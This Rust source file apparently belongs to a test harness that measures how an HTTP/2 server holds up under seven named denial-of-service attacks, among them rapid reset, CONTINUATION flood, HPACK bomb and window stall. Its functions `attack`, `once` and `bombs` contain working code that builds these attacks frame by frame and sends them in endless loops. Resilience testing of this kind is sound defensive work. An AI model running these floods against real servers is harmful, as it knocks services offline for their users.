//! The attacks on servers of HTTP/2 that have names.

use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use socket2::SockRef;

use super::good::{self, Seen};
use super::raw::*;
use super::target::{Process, Target};

const NAMES: [&str; 7] =
    ["rapid reset", "MadeYouReset", "CONTINUATION", "SETTINGS flood", "PING flood", "HPACK bomb", "window stall"];
/// Connections that attack at a time.
const ATTACKERS: usize = 8;
/// What the good client asks for a second.
const PER_SECOND: u64 = 1_000;
/// Streams of one connection that are left with a shut window.
const STALLED: u32 = 100;
/// How long those are held before the next ones come.
const HELD: Duration = Duration::from_millis(500);

/// Runs every attack, or `only` one, `rounds` times for `seconds`, each beside as long a time of quiet.
pub fn table(seconds: u64, rounds: u64, only: Option<&str>) {
    println!(
        "good client: {PER_SECOND} requests of 1 KiB a second over 16 connections; {ATTACKERS} connections attack; median of {rounds} rounds of {seconds} s\n"
    );
    println!(
        "| attack | p99 in quiet | p99 during | during over quiet (lowest-highest) | failed | floods ended | resident memory |"
    );
    println!("|---|---|---|---|---|---|---|");
    for name in NAMES.into_iter().filter(|name| only.is_none_or(|only| only == *name)) {
        let target = Target::start();
        // The first requests of a process are its slowest, and its memory grows by its first connections.
        good::asks(target.http, PER_SECOND, 1);
        let (calm, before) = (target.resident(), target.number("refusals_total{shard=\"0\",reason=\"flood\"}"));
        let (mut quiet, mut during, mut ratios, mut peak): (Vec<Seen>, Vec<Seen>, Vec<f64>, u64) = Default::default();
        for _ in 0..rounds {
            quiet.push(good::asks(target.http, PER_SECOND, seconds));
            let attackers = Process::start(1, true, &["attack", name, &target.http.to_string()]);
            during.push(good::asks(target.http, PER_SECOND, seconds));
            peak = peak.max(target.resident());
            drop(attackers);
            let of = |seen: &[Seen]| seen.last().map_or(0.0, |seen| seen.p99_us as f64);
            ratios.push(of(&during) / of(&quiet));
        }
        let median = |seen: &[Seen]| {
            let mut times: Vec<u64> = seen.iter().map(|seen| seen.p99_us).collect();
            times.sort_unstable();
            times[times.len() / 2]
        };
        ratios.sort_by(f64::total_cmp);
        println!(
            "| {name} | {} us | {} us | {:.2} ({:.2}-{:.2}) | {} | {} | {:+.1} MB |",
            median(&quiet),
            median(&during),
            ratios[ratios.len() / 2],
            ratios[0],
            ratios[ratios.len() - 1],
            during.iter().map(|seen| seen.failed).sum::<u64>(),
            target.number("refusals_total{shard=\"0\",reason=\"flood\"}") - before,
            (peak as f64 - calm as f64) / 1e6,
        );
    }
}

/// Attacks for ever.
pub fn attack(name: &str, at: SocketAddr) {
    std::thread::scope(|scope| {
        for _ in 0..ATTACKERS {
            scope.spawn(move || {
                loop {
                    if let Some(raw) = connect(at, name) {
                        once(name, raw);
                    }
                }
            });
        }
    });
}

fn connect(at: SocketAddr, name: &str) -> Option<Raw> {
    let stream = TcpStream::connect(at).ok()?;
    // Thousands of connections a second must not use up the ports.
    SockRef::from(&stream).set_linger(Some(Duration::ZERO)).ok()?;
    let mut raw = Raw::with(stream);
    let ours = match name {
        "window stall" => settings(&[(4, 0)]),
        "HPACK bomb" => settings(&[(1, 0)]),
        _ => Vec::new(),
    };
    raw.try_send([PREFACE, &frame(SETTINGS, 0, 0, &ours), &frame(SETTINGS, ACK, 0, b"")].concat()).then_some(raw)
}

/// One connection of an attack, until the edge ends it.
fn once(name: &str, mut raw: Raw) {
    let stream = |number: u32| number * 2 + 1;
    let many = |raw: &mut Raw, frames: &dyn Fn(u32) -> Vec<u8>| {
        // As many as fit into one send: what an attacker would do.
        let (mut number, mut bytes) = (0, Vec::new());
        loop {
            bytes.clear();
            while bytes.len() < 16 * 1024 {
                bytes.extend(frames(number));
                number += 1;
            }
            if !raw.try_send(&bytes) {
                return;
            }
        }
    };
    match name {
        "rapid reset" => many(&mut raw, &|number| {
            let head = frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &asks("GET", "/", &[]));
            [head, frame(RST_STREAM, 0, stream(number), &CANCEL.to_be_bytes())].concat()
        }),
        "MadeYouReset" => many(&mut raw, &|number| {
            let head = frame(HEADERS, END_HEADERS, stream(number), &asks("POST", "/", &[]));
            [head, frame(WINDOW_UPDATE, 0, stream(number), &[0x7f, 255, 255, 255])].concat()
        }),
        "CONTINUATION" => {
            raw.try_send(frame(HEADERS, END_STREAM, 1, &asks("GET", "/", &[])));
            let more = frame(CONTINUATION, 0, 1, &block(&[("x", &"y".repeat(1000))]));
            many(&mut raw, &|_| more.clone());
        }
        "SETTINGS flood" => many(&mut raw, &|_| frame(SETTINGS, 0, 0, &settings(&[(4, 65_535)]))),
        "PING flood" => many(&mut raw, &|_| frame(PING, 0, 0, b"anybody?")),
        "HPACK bomb" => bombs(&mut raw),
        "window stall" => {
            (0..STALLED).for_each(|number| raw.get(stream(number), "/large"));
            let until = Instant::now() + HELD;
            while Instant::now() < until && raw.next_within(HELD / 5) != Some(None) {}
        }
        other => panic!("{other} is no attack"),
    }
}

/// A field of nearly all that the table holds, and its index 11,000 times: 44 MB a head.
fn bombs(raw: &mut Raw) {
    let mut bomb = asks("GET", "/", &[]);
    bomb.push(0x40);
    for text in [&b"x"[..], &[b'y'; 4000]] {
        integer(&mut bomb, text.len(), 7, 0);
        bomb.extend_from_slice(text);
    }
    bomb.extend_from_slice(&[0xbe; 11_000]);
    for number in 0..100 {
        let flags = END_STREAM | END_HEADERS;
        if !raw.try_send(frame(HEADERS, flags, number * 2 + 1, &bomb)) {
            return;
        }
    }
}
